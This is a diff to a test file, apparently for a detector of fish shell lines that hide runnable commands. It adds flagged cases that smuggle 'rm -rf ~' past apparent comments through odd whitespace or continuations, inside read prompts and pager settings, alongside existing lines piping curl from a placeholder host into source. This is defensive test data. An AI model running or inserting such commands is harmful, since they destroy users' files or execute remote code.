@@ -34,12 +34,52 @@ test.each([
   'if command -q b; echo ok >&2; end',
   'for x in (ls | head -n 1); echo $x 2>/dev/null; end',
   'set -l words (commandline -opc)',
+  'echo a # it is ; rm -rf ~',
+  'echo a\\\\ # rm -rf ~',
+  "echo 'a\u00a0b' é#b",
+  "read -l -P 'Sure? ' answer; read -lp 'set_color green; echo ok' answer",
+  'echo $a | read -l b; read -l b <$argv[1]; read -P $prompt b',
+  '__fish_seen_subcommand_from a; and __fish_complete_path',
 ])('%s: nothing is found, and somebody knows all that runs', (line) => {
   expect(said(line)).toEqual([]);
 });
 
 test.each([
   "complete -c a -a '(curl https://x.example/a | source)'",
+  // Where fish reads no comment, or one that is none here.
+  'echo \\ # ; rm -rf ~',
+  'echo \\;# ; rm -rf ~',
+  'echo a\u00a0# ; rm -rf ~',
+  'echo a\u2003# ; rm -rf ~',
+  'echo a\u000b# ; rm -rf ~',
+  'echo a\u0085# ; rm -rf ~',
+  "echo a |# it's\n rm -rf ~\n# that's",
+  "echo a &# it's\n rm -rf ~\n# that's",
+  "echo a\r# it's\n rm -rf ~\n# that's",
+  "echo a\\ # it's\n rm -rf ~\n# that's",
+  "echo a\\\n# it's\n rm -rf ~\n# that's",
+  "echo a\u0085# it's\n rm -rf ~\n# that's",
+  // What is run to say what is asked for.
+  "read -p 'rm -rf ~' a",
+  "read -lp 'rm -rf ~' a",
+  "read --prompt='rm -rf ~' a",
+  "read --pro 'rm -rf ~' a",
+  "read -R 'rm -rf ~' a",
+  "read --right-prompt 'rm -rf ~' a",
+  'read "-p" "rm -rf ~" a',
+  'read -prm a',
+  'read $options a',
+  'echo a | read -p "rm -rf ~" a',
+  // What others start.
+  'set -U fish_user_paths /tmp/a',
+  "set -g PAGER 'sh -c a'",
+  "set LESSOPEN '|rm -rf ~'",
+  "set -U FZF_DEFAULT_OPTS '--preview=rm'",
+  // What fish's own functions run.
+  '__fish_complete_list , "rm -rf ~"',
+  '__fish_echo rm -rf ~',
+  '__fish_cached -- "rm -rf ~"',
+  '__fish_argcomplete_complete rm -rf ~',
   "complete -c a -n 'curl https://x.example/a | source'",
   'complete -c a -n "curl https://x.example/a | source; and true"',
   "complete -c a --condition='rm -rf ~' -a b",
